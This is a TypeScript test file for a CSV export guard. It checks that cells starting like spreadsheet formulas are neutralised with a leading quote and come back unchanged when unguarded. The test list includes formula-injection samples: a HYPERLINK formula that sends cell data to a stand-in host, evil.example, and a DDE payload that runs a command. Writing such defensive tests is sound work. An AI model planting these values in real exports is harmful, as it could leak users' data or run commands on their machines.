import fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine, guarded, unguarded } from "./csv.ts";

test.each([
  "=1+1",
  "+34600111222",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
])("%j is no formula for any spreadsheet, and comes back as it was", (cell) => {
  expect(guarded(cell)).toBe(`'${cell}`);
  expect(unguarded(guarded(cell))).toBe(cell);
});

test("what is no formula stays as it is; what needs quotation marks has them", () => {
  expect(csvLine(["Inés", "O'Hara", "'quoted'", ""])).toBe("Inés,O'Hara,'quoted',\r\n");
  expect(csvLine(['say "hi"', "a,b", "a;b", "two\nlines", " padded "])).toBe(
    '"say ""hi""","a,b","a;b","two\nlines"," padded "\r\n',
  );
  expect(csvLine(["=1,2"])).toBe(`"'=1,2"\r\n`);
});

test("whatever was guarded comes back as it was, and never begins like a formula", () => {
  const cell = fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "a", "＝", " ") });
  fc.assert(
    fc.property(cell, (text) => {
      expect(unguarded(guarded(text))).toBe(text);
      expect(guarded(text)).not.toMatch(/^[=+\-@\t\r＝]/);
    }),
  );
});
